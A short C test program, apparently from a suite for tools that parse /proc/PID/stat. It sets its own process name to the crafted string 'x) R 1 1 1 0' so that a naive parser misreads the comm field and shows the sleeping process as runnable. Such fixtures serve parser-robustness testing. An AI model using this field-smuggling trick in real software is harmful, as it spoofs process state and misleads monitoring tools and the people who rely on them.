/* Sleeps under a process name that makes a careless reader of /proc/PID/stat see it as runnable. */

#include "attack.h"

int main(void)
{
    start_attack();
    (void)prctl(PR_SET_NAME, "x) R 1 1 1 0");
    wait_forever();
}
